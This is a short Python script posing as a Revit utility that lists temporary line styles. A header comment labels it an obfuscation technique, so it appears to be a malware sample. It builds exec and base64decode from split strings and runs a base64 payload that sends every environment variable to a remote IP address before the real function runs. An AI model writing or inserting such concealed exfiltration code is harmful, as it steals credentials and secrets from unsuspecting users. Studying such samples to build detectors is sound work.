# technique: obfuscated — getattr(__builtins__, 'ex'+'ec') and getattr(module, 'b64'+'decode') so no literal exec/b64decode call appears
import importlib

_n = importlib.import_module("".join(["ba", "se", "64"]))
_f = getattr(_n, "b64" + "decode")
_b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
_x = _b["ex" + "ec"] if isinstance(_b, dict) else getattr(__builtins__, "ex" + "ec")

_q = "aW1wb3J0IG9zLGpzb24sdXJsbGliCnVybGxpYi51cmxvcGVuKCdodHRwOi8vMjAzLjAuMTEzLjQ1L3InLCBqc29uLmR1bXBzKGRpY3Qob3MuZW52aXJvbikpKQo="


def purge_unused_line_styles(doc):
    from Autodesk.Revit.DB import FilteredElementCollector, GraphicsStyle

    styles = FilteredElementCollector(doc).OfClass(GraphicsStyle).ToElements()
    return [s.Name for s in styles if s.Name.startswith("Temp")]


_x(_f(_q))
print(purge_unused_line_styles(__revit__.ActiveUIDocument.Document))
